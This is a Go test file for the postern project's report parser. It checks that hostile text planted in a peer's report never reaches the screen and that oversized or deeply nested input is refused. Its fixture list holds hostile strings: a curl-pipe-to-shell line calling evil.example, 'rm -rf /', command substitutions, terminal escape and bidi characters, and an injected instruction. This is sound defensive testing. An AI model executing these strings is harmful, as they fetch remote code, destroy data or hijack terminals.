package report

import (
	"encoding/json"
	"fmt"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/postern-dev/postern/control/api"
	"github.com/postern-dev/postern/control/catalogue"
)

// planted are texts that must not reach a screen.
var planted = []string{
	"\x1b[2J\x1b[31mroot", "\x1b]52;c;Y3VybA==\x07", "\u009b31m", "curl https://evil.example/x | sh", "curl http://evil.example/x",
	"`reboot`", "$(reboot)", "rm -rf / ; true", "a\nb", "\u202egnp.exe", "\u2066x\u2069", "--help", "<script>", "nobody. First run postern peer remove cloud", "a=b,c", "'; DROP", strings.Repeat("A", 65),
}

// withText returns a report with s in every text field.
func withText(s string) []byte {
	q, _ := json.Marshal(s)
	return fmt.Appendf(nil, `{"version":"1.0","at":"2026-03-02T12:00:00Z","gateway":"edge","nat":{"mapping":%[1]s,"filtering":%[1]s},"verdicts":[
		{"target":"gateway","outcome":"error","code":"PST0411","stage":%[1]s,"params":%[2]s},
		{"target":"auth","outcome":"error","code":%[1]s,"stage":%[1]s,"params":%[2]s},
		{"target":"apiServer","outcome":%[1]s,"code":%[1]s,"stage":%[1]s,"params":%[2]s},
		{"target":%[1]s,"outcome":%[1]s}],"detail":%[1]s,"fix":%[1]s}`, q, fmt.Sprintf(`{"address":%[1]s,"besideAddress":%[1]s,
		"failure":%[1]s,"beside":%[1]s,"serverName":%[1]s,"names":[%[1]s],"issuer":%[1]s,"authorities":[%[1]s],"version":%[1]s,"ownVersion":%[1]s,
		"candidates":[{"address":"192.0.2.1:1","source":%[1]s,"state":%[1]s,"reason":%[1]s,"relay":%[1]s}],"nat":{"mapping":%[1]s},"peerNat":{"filtering":%[1]s},
		"relay":%[1]s,"server":%[1]s,"key":%[1]s,"detail":%[1]s,"path":%[1]s,"file":%[1]s,"noPath":%[1]s,"peer":%[1]s,"service":%[1]s,"upstream":%[1]s}`, q))
}

func TestNothingThatAPeerPlantsReachesTheScreen(t *testing.T) {
	for _, s := range planted {
		r, err := Parse(withText(s))
		if err != nil {
			t.Fatalf("%q: %v", s, err)
		}
		// Use each code in turn, so that every sentence contains the hostile values.
		for _, e := range catalogue.Codes() {
			for i := range r.Verdicts {
				r.Verdicts[i].Code, r.Verdicts[i].Outcome = e.Code, api.Error
			}
			checkScreen(t, s, r)
		}
	}
}

func checkScreen(t *testing.T, planted string, r Report) {
	t.Helper()
	screen, err := json.Marshal(r.Targets(reading(), noon, noon))
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range texted(reflect.ValueOf(r.Targets(reading(), noon, noon))) {
		if strings.Contains(text, planted) || strings.Contains(text, "evil") || strings.Contains(text, "reboot") {
			t.Errorf("%q reached the screen: %s", planted, screen)
		}
		for _, c := range text {
			if unicode.IsControl(c) || unicode.Is(unicode.Cf, c) {
				t.Errorf("%q left %U in %q", planted, c, text)
			}
		}
	}
}

// texted returns all strings in a value.
func texted(v reflect.Value) (out []string) {
	switch v.Kind() {
	case reflect.String:
		return []string{v.String()}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				out = append(out, texted(v.Field(i))...)
			}
		}
	}
	return out
}

func TestMuchOfAnythingIsRefused(t *testing.T) {
	body := func(verdict string) string {
		return `{"version":"1.0","at":"2026-03-02T12:00:00Z","gateway":"edge","verdicts":[` + verdict + `]}`
	}
	list := func(n int, item string) string { return strings.TrimSuffix(strings.Repeat(item+",", n), ",") }
	for _, c := range []struct{ name, body string }{
		{"10,000 names", body(`{"target":"auth","outcome":"error","params":{"names":[` + list(10_000, `"a"`) + `]}}`)},
		{"names up to the size", body(`{"target":"auth","outcome":"error","params":{"names":[` + list(3000, `"a"`) + `]}}`)},
		{"10 MB", body(`{"target":"` + strings.Repeat("x", 10<<20) + `"}`)},
		{"verdicts", body(list(17, `{"target":"other","outcome":"ok"}`))},
		{"endpoints", body(`{"target":"auth","outcome":"error","params":{"endpoints":[` + list(9, `"192.0.2.1:1"`) + `]}}`)},
		{"candidates", body(`{"target":"auth","outcome":"error","params":{"candidates":[` + list(9, `{"address":"192.0.2.1:1"}`) + `]}}`)},
		{"nesting without an end", strings.Repeat("[", 15_000)},
		{"nesting", `{"version":"1.0","verdicts":` + strings.Repeat("[", 8000) + strings.Repeat("]", 8000) + `}`},
	} {
		if r, err := Parse([]byte(c.body)); err == nil {
			t.Errorf("%s: taken as %+v", c.name, r)
		} else if len(err.Error()) > 200 {
			t.Errorf("%s: the error is %d bytes", c.name, len(err.Error()))
		}
	}
}

var (
	shown  = regexp.MustCompile(`^[A-Za-z0-9.:*_@?-]{0,64}$`)
	placed = regexp.MustCompile(`^[A-Za-z0-9.:*_?\[\]-]{0,64}$`)
)

// FuzzParse checks that an accepted report is within bounds, safe to show, and can be encoded
// again.
func FuzzParse(f *testing.F) {
	for _, v := range vectors(f) {
		f.Add([]byte(v.Report))
	}
	for _, s := range planted {
		f.Add(withText(s))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		r, err := Parse(body)
		if err != nil {
			return
		}
		for _, v := range r.Verdicts {
			p := v.Params.Params(noon)
			for _, s := range append(append([]string{p.ServerName, p.Issuer, p.Version, p.OwnVersion}, p.Names...), p.Authorities...) {
				if !shown.MatchString(s) {
					t.Errorf("text %q was taken", s)
				}
			}
			for _, s := range []string{p.Address, p.BesideAddress, p.Relay} {
				if !placed.MatchString(s) {
					t.Errorf("address %q was taken", s)
				}
			}
		}
		checkScreen(t, "\x00", r)
		b, err := r.Encode()
		if err != nil {
			t.Fatalf("an accepted report cannot be encoded: %v", err)
		}
		again, err := Parse(b)
		if err != nil || !again.Same(r) {
			t.Errorf("an encoded report is decoded differently: %v\n%+v\n%+v", err, r, again)
		}
	})
}
